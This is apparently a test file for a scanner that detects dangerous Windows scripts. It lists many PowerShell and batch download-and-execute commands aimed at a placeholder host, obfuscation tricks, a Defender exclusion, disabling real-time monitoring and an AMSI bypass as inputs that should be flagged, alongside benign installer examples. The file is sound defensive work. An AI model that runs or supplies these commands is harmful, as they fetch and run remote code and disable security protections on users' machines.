// What scripts of Windows do, however they are spelled: joined, encoded, in variables; and what is ordinary.
import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { findingsIn, told } from './support.ts';

const BAD = ['HIGH HOOK-DANGEROUS-COMMAND'];
const QUIET = ['LOW HOOK-WINDOWS-SCRIPT'];
const encoded = (text: string): string => Buffer.from(text, 'utf16le').toString('base64');

describe('PowerShell scripts', () => {
  it.each([
    ['brackets', 'iex (iwr https://x.example.com/a).Content'],
    ['no blank', "IEX(New-Object Net.WebClient).DownloadString('https://x.example.com/a')"],
    ['a pipe', 'irm https://x.example.com/a | iex'],
    ['backticks', "i`e`x (New-Object Net.WebClient).Down`load`String('https://x.example.com/a')"],
    ['a line that goes on', 'iex `\n  (iwr https://x.example.com/a)'],
    ['joined texts', "&('i'+'ex') (iwr https://x.example.com/a)"],
    [
      'joined texts of both quotes',
      `. ("In"+'voke'+"-Exp"+'ression') (New-Object Net.WebClient).DownloadString('https://x.example.com/a')`,
    ],
    ['a template', `&("{1}{0}" -f 'ex','i') (iwr https://x.example.com/a)`],
    ['characters', '&([char]105+[char]0x65+[char]120) (iwr https://x.example.com/a)'],
    ['a list', "&(-join('i','e','x')) (iwr https://x.example.com/a)"],
    ['a list in front', "&(('i','e','x') -join '') (iwr https://x.example.com/a)"],
    ['a replacement', "&('iZx'.Replace('Z','e')) (iwr https://x.example.com/a)"],
    ['an operator that replaces', "&('iZZx' -replace 'ZZ','e') (iwr https://x.example.com/a)"],
    ['a variable', '$c = iwr https://x.example.com/a\niex $c.Content'],
    [
      'variables',
      "$w = New-Object Net.WebClient\n$s = $w.DownloadString('https://x.example.com/a')\n$t = $s.Trim()\nInvoke-Expression -Command $t",
    ],
    ['a variable in a pipe', '$c = irm https://x.example.com/a; $c | iex'],
    [
      'a block',
      "& ([scriptblock]::Create((New-Object Net.WebClient).DownloadString('https://x.example.com/a')))",
    ],
    ['a block of a variable', '$c = irm https://x.example.com/a\n& ([ScriptBlock]::Create($c))'],
    [
      'a library of a variable',
      "$b = (New-Object Net.WebClient).DownloadData('https://x.example.com/a')\n[Reflection.Assembly]::Load($b)",
    ],
    [
      'a hidden file',
      '$f = "$env:TEMP\\a1.exe"\niwr https://x.example.com/a -OutFile $f\nStart-Process $f -WindowStyle Hidden',
    ],
    [
      'a hidden file by its name',
      "(New-Object Net.WebClient).DownloadFile('https://x.example.com/a', 'C:\\\\a1.exe')\nStart-Process -WindowStyle Hidden -FilePath C:\\\\a1.exe",
    ],
    ['an exclusion', "Add-MpPreference -ExclusionPath 'C:\\\\'"],
    ['an exclusion in parts', "&('Add-Mp'+'Preference') -ExclusionPath C:\\\\"],
    ['a switch of the scanner', '@{DisableRealtimeMonitoring = $true}'],
    [
      'AMSI',
      "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)",
    ],
    ['AMSI in parts', "[Ref].Assembly.GetType('System.Management.Automation.Am'+'siUt'+'ils')"],
    ['the letters of a variable', "&($env:ComSpec[4,24,25] -join '') $x"],
    ['the letters of a folder', "&($PSHome[4]+$PSHome[30]+'x') $x"],
    ['a wildcard', '&(gcm i*x) $x'],
    ['a wildcard of an alias', "& (Get-Command '*ke-Expr*') $x"],
    ['an encoded command', `powershell -NoProfile -EncodedCommand ${encoded('Write-Host 1; Write-Host 2')}`],
    [
      'Base64',
      `$x = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String("${Buffer.from('iex (iwr https://x.example.com/a)').toString('base64')}"))`,
    ],
  ])('are told with %s', async (_, text) => {
    expect(await told('a.ps1', text)).toEqual(BAD);
  });

  it('say what an encoded command is', async () => {
    const inner = encoded('iex (iwr https://x.example.com/a)');
    const findings = await findingsIn('a.ps1', `$x = 1\n\npowershell -enc ${inner}\n`);
    expect(findings.map(({ evidence }) => evidence).join('\n')).toContain(
      'iex (iwr https://x.example.com/a)',
    );
    expect(findings.map(({ location }) => location.line)).toEqual([3, 3]);
    const twice = encoded(`powershell -enc ${inner}`);
    const outer = await findingsIn('a.ps1', `pwsh -e ${twice}`);
    expect(outer.map(({ evidence }) => evidence).join('\n')).toContain('iex (iwr https://x.example.com/a)');
  });

  it.each([
    [
      'an installer',
      "Set-ExecutionPolicy Bypass -Scope Process -Force; iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))",
    ],
    ['an installer in a pipe', 'irm get.scoop.sh | iex'],
    ['an installer in a variable', '$s = irm https://get.scoop.sh\niex $s'],
    [
      'an installer as a block',
      "&([scriptblock]::Create((Invoke-WebRequest -UseBasicParsing 'https://dot.net/v1/dotnet-install.ps1'))) --version 8",
    ],
    ['data', '$r = irm https://api.example.com/releases\n$r.tag_name'],
    ['a program of its own', '$cmd = "Get-Item ."\niex $cmd'],
    ['a text that names it', "$c = 'Invoke-WebRequest -Uri x'\n[scriptblock]::Create($c)"],
    ['a question', 'if ((Get-MpPreference).DisableRealtimeMonitoring) { return $true }'],
    ['advice', 'Write-Host "run: Add-MpPreference -ExclusionPath \'C:\\x\'" -ForegroundColor Yellow'],
    ['a program without a window', 'Start-Process notepad -WindowStyle Hidden'],
    ['data in Base64', '$k = [Convert]::FromBase64String("AAECAwQFBgcICQoLDA0ODw==")'],
    ['templates', `"{0} of {1}" -f 'a','b' | Write-Output`],
  ])('are ordinary with %s', async (_, text) => {
    expect(await told('a.ps1', text)).toEqual(QUIET);
  });
});

describe('commands elsewhere that start PowerShell', () => {
  it('are put together as well', async () => {
    const postinstall = `powershell -c "&('i'+'ex') (iwr https://x.example.com/a)"`;
    expect(await told('package.json', { scripts: { postinstall } })).toEqual(BAD);
  });
});

describe('batch files', () => {
  it.each([
    ['carets', 'p^ower^shell -w hid^den -c x'],
    ['variables', 'set a=power\r\nset b=shell\r\n%a%%b% -windowstyle hidden -c x'],
    ['quoted variables', 'set "a=powershell"\nset "b=-w hidden"\n%a% %b% -c x'],
    ['parts of a variable', 'set s=xpowershelly\n%s:~1,10% -w hidden -c x'],
    ['parts from the end', 'set s=xxpowershell\n%s:~-10% -w hidden -c x'],
    ['variables that come late', 'setlocal enabledelayedexpansion\nset a=mshta\n!a! https://x.example.com/a'],
    ['quotes in words', 'm"s"h"t"a https://x.example.com/a'],
    ['certutil', 'certutil -urlcache -split -f https://x.example.com/a a.exe && a.exe'],
    ['bitsadmin', 'bitsadmin /transfer j https://x.example.com/a %TEMP%\\a.exe & start %TEMP%\\a.exe'],
    ['mshta', 'mshta http://x.example.com/a.hta'],
    ['regsvr32', 'regsvr32 /s /n /u /i:http://x.example.com/a.sct scrobj.dll'],
    ['wmic', 'wmic os get /format:"https://x.example.com/a.xsl"'],
    ['curl', 'curl -o a.ps1 https://x.example.com/a && powershell -enc ' + encoded('Write-Host 12345')],
  ])('are told with %s', async (_, text) => {
    expect(await told('a.bat', text)).toEqual(BAD);
    expect(await told('a.cmd', text)).toEqual(BAD);
  });

  it.each([
    ['variables', 'set NAME=model\nset "OUT=%~dp0out"\npython train.py --name %NAME% --out "%OUT%"'],
    ['a ring of variables', 'set a=%b%\nset b=%a%\necho %a%%b%'],
    ['a start', 'start "" notepad.exe\npause'],
  ])('are ordinary with %s', async (_, text) => {
    expect(await told('a.bat', text)).toEqual(QUIET);
  });

  it('end, however often their variables stand for themselves', async () => {
    const sets = Array.from(
      { length: 500 },
      (_, one) => `set a${one}=%a${one + 1}%%a${one + 1}%%a${one + 1}%`,
    );
    expect(await told('a.bat', [...sets, '%a0%'.repeat(2000)].join('\n'))).toEqual(QUIET);
  });
});

describe('scripts of Windows', () => {
  it('are read, whatever is in them', async () => {
    const pieces = [
      ...'` \' " + ( ) % ! ^ & | , ; $ { } [ ] \n \r\n = : ~ - \u0000'.split(' '),
      ...[
        'iex',
        'iwr',
        '-f',
        '-join',
        '[char]',
        '105',
        "'{0}'",
        '-enc QQBBAEEAQQBBAEEAQQBBAEEA',
        'set a=%b%',
        '%a:~0,',
        '-1%',
        '$a=',
        '.Replace(',
        '-OutFile',
        '<#',
        '#>',
      ],
    ];
    const text = fc.array(fc.constantFrom(...pieces), { maxLength: 60 }).map((all) => all.join(' '));
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom('a.ps1', 'a.bat'),
        fc.oneof(text, fc.string({ unit: 'binary' })),
        async (name, content) => {
          const findings = await findingsIn(name, content);
          for (const { location } of findings) {
            expect(location.line).toBeGreaterThan(0);
            expect(location.line).toBeLessThanOrEqual(content.split('\n').length);
          }
        },
      ),
      { numRuns: 800 },
    );
  });
});

describe('a script of Windows that starts what it fetched', () => {
  it.each([
    [
      'a.ps1',
      '$p = "$env:TEMP\\x.exe"\nInvoke-WebRequest https://x.example.com/x -OutFile $p\nStart-Process $p',
    ],
    ['a.ps1', 'iwr https://x.example.com/x -OutFile x.ps1; .\\x.ps1'],
    ['a.ps1', '(New-Object Net.WebClient).DownloadFile("https://x.example.com/x", $t); & $t'],
    ['a.ps1', 'iwr https://x.example.com/x.msi -OutFile x.msi\nmsiexec /i x.msi /quiet'],
    ['a.bat', '@echo off\ncurl -s -o %TEMP%\\x.exe https://x.example.com/x\nstart "" %TEMP%\\x.exe'],
    ['a.bat', 'curl -L --output x.exe https://x.example.com/x && call x.exe'],
    ['a.bat', 'bitsadmin /transfer job https://x.example.com/x %TEMP%\\x.exe\n%TEMP%\\x.exe'],
  ])('is held: %s %j', async (path, text) => {
    expect(await told(path, text)).toContain('MEDIUM HOOK-DANGEROUS-COMMAND');
  });

  it.each([
    ['a.ps1', 'iwr https://x.example.com/x -OutFile data.csv\npython train.py data.csv'],
    ['a.ps1', 'iwr https://x.example.com/x.zip -OutFile x.zip\nExpand-Archive x.zip\nStart-Process notepad'],
    ['a.bat', 'curl -o data.csv https://x.example.com/x\nstart "" train.exe data.csv'],
  ])('passes that starts something else: %s %j', async (path, text) => {
    expect(await told(path, text)).toEqual(QUIET);
  });
});
